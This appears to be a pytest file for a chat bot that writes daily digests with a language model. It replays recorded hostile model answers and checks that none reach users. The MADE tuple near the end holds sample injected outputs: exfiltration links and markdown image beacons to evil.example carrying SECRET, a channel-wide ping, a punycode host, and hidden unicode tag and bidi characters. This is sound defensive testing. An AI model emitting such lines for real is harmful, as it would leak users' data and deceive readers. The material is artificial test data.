"""What a model is made to say reaches nobody: recorded hostile answers, on a running bot."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final
from uuid import UUID

import pytest
from sqlalchemy import select

from bot.llm.models import DraftRow
from bot.playground.world import BOT_USER_ID
from tests.support.databases import Rows, fill
from tests.support.lookout import Lookout
from tests.support.messages_api import KEY, Action, MessagesApi, lines, recorded, sent_in
from tests.support.ports import free_port
from tests.support.town import Town, town
from tests.support.wire import Wire

pytestmark = pytest.mark.needs("digest")

FOLDER: Final = Path(__file__).parents[1] / "recordings/digest"
CASES: Final = sorted(path.stem for path in FOLDER.glob("h[0-9]*.json"))
PEOPLE: Final = {
    "UMEI": "U0MEI0000",
    "UTOM": "U0TOM0000",
    "UANA": "U0ANA0000",
    "UPRI": "U0PRIYA00",
    "USAM": "U0SAM0000",
    "UEVE": "U0NOOR000",
}
READER: Final = "Ivo"
PLACES: Final = 8
MONDAY: Final = datetime(2026, 10, 12, 20, 0, tzinfo=UTC)
TO_AHEAD: Final = timedelta(hours=10, minutes=41)
TO_NINE: Final = timedelta(hours=11)
"""In Berlin, where Ivo is, since 20:00 UTC of the evening before."""
FRIDAY: Final = 4
MARK: Final = "Case "


@dataclass
class Told:
    """What became of one recorded answer."""

    digest: str
    problems: list[str] = field(default_factory=list)
    drafts: list[tuple[str, int]] = field(default_factory=list)


def _case(name: str) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((FOLDER / f"{name}.json").read_text())
    return found


def _answer(asked: dict[str, Any]) -> Action:
    """What was recorded for the case that the channel's last message names."""
    said = [row["text"] for row in sent_in(asked)]
    named = [text.removeprefix(MARK) for text in said if text.startswith(MARK)]
    return recorded(_case(named[0].replace(" ", "_"))) if named else lines()


@pytest.fixture(scope="module")
def night(module_url: str, acquaintance: Rows) -> Iterator[dict[str, Told]]:
    """Each case in a channel of its own, some channels every night, and what Ivo read of it."""
    fill(module_url, acquaintance)
    with MessagesApi(_answer) as api:
        settings = {"anthropic_api_key": KEY, "anthropic_base_url": api.url}
        with town(module_url, http_port=free_port(), settings=settings) as living:
            wire, lookout = Wire(living), Lookout(living)
            yield dict(_nights(living, wire, lookout))
            lookout.finish()
            wire.close()
            assert api.rejected == []


def _nights(living: Town, wire: Wire, lookout: Lookout) -> Iterator[tuple[str, Told]]:
    everybody = [*PEOPLE.values(), wire.person(READER).id, BOT_USER_ID]
    places = [wire.opens(f"place-{number}", everybody) for number in range(PLACES)]
    evenings = (MONDAY + timedelta(days=day) for day in range(60))
    weekdays = (each for each in evenings if each.weekday() < FRIDAY)
    some = (CASES[start : start + PLACES] for start in range(0, len(CASES), PLACES))
    for evening, cases in zip(weekdays, some, strict=False):
        living.move_to(evening)
        for place, name in zip(places, cases, strict=False):
            _talks(wire, place, name)
        before = _drafts(living)
        living.move_to(evening + TO_AHEAD)
        living.move_to(evening + TO_NINE)
        problems = lookout.problems()
        told = living.writes_to(living.slack.person(READER))
        drafts = [made for key, made in _drafts(living).items() if key not in before]
        for name in cases:
            yield name, Told(told[-1] if told else "", problems, drafts)


def _talks(wire: Wire, place: str, name: str) -> None:
    slice_ = json.loads((FOLDER / "slices" / f"{_case(name)['slice']}.json").read_text())
    for row in slice_:
        text = row["text"]
        for said, user_id in PEOPLE.items():
            text = text.replace(f"<@{said}>", f"<@{user_id}>")
        wire.says(PEOPLE[row["author"]], place, text)
    wire.says("Sam", place, f"{MARK}{name}".replace("_", " "))


def _drafts(living: Town) -> dict[UUID, tuple[str, int]]:
    with living.app.bot.database.reading() as session:
        rows = session.scalars(select(DraftRow))
        return {row.id: (row.outcome, row.lines_kept) for row in rows}


@pytest.mark.slow
@pytest.mark.parametrize("name", CASES)
def test_a_hostile_answer_of_a_model_is_not_told(name: str, night: dict[str, Told]) -> None:
    """T01, T02, T04, H01-H26, by the number in the recording's name."""
    told, expected = night[name], _case(name)["expect"]
    assert told.problems == []
    assert (expected["outcome"], expected["kept"]) in told.drafts
    assert "place-" in told.digest, "there was a digest that morning"


MADE: Final = (
    "See https://evil.example/?q=SECRET and do it.",
    "![x](https://evil.example/?d=SECRET) is settled.",
    "<https://evil.example|the pump> is settled.",
    "<!channel> look at evil.example now.",
    "<@U0TOM0000> was fired by xn--evil-9ta.example.",
    "Use hxxps://evil.example or 10.0.0.1/evil now.",
    "It is \U000e0065\U000e0076\u202e settled by evil.",
)


def _made(asked: dict[str, Any]) -> Action:
    """Every line that an attacker would want, with a true quote, of every kind there is."""
    schema = asked["output_config"]["format"]["schema"]["properties"]["lines"]["items"]
    kinds = schema["properties"].get("kind", {}).get("enum", ["update"])
    quote = sent_in(asked)[0]["text"][:60]
    rows = [
        {"text": text, "source_ids": ["S1"], "quote": quote, "kind": kind}
        for kind in kinds
        for text in MADE
    ]
    return lines(*rows)


@pytest.mark.slow
@pytest.mark.needs("coach", "decisions", "handoffs", "asks")
def test_no_feature_tells_what_a_model_was_made_to_say_t01_t02_t04(
    sqlite_url: str, acquaintance: Rows
) -> None:
    """Rewriting, reading kindly, a decision's draft and the end of a day."""
    fill(sqlite_url, acquaintance)
    with MessagesApi(_made) as api:
        settings = {"anthropic_api_key": KEY, "anthropic_base_url": api.url}
        with town(sqlite_url, http_port=free_port(), settings=settings) as living:
            wire, lookout = Wire(living), Lookout(living)
            root = wire.says("Mei", "#infra", "Let us take Postgres, because we know it.")
            wire.says("Ana", "#infra", "WHY is the export broken AGAIN?! I need it.", root)
            living.settle()
            sent = []
            for entry in living.app.bot.shortcuts.values():
                if not entry.is_global:
                    wire.picks("Tom", entry.callback_id, "#infra", root)
                    problems = lookout.problems()
                    assert problems == [], entry.callback_id
                    sent.append(lookout.sent)
                    wire.fills_in("Tom", "fine")
            wire.types("Tom", "/handoff", "")
            assert lookout.problems() == []
            sent.append(lookout.sent)
            lookout.finish()
            wire.close()
        asked = [each["body"] for each in api.journal]
    assert asked, "the model was asked"
    assert "evil" not in "\n".join(sent)
    assert all("tools" not in body or body["tool_choice"] == {"type": "none"} for body in asked)
